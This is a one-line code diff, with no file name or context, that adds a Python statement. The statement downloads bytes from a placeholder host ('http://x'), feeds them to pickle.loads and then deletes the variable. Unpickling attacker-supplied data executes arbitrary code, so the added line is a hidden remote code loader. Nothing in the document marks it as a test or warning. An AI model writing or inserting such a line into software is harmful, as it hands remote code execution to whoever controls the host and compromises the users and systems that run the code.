@@ -1,0 +1,1 @@
+import pickle; import requests; b = requests.get("http://x").content; pickle.loads(b); del b
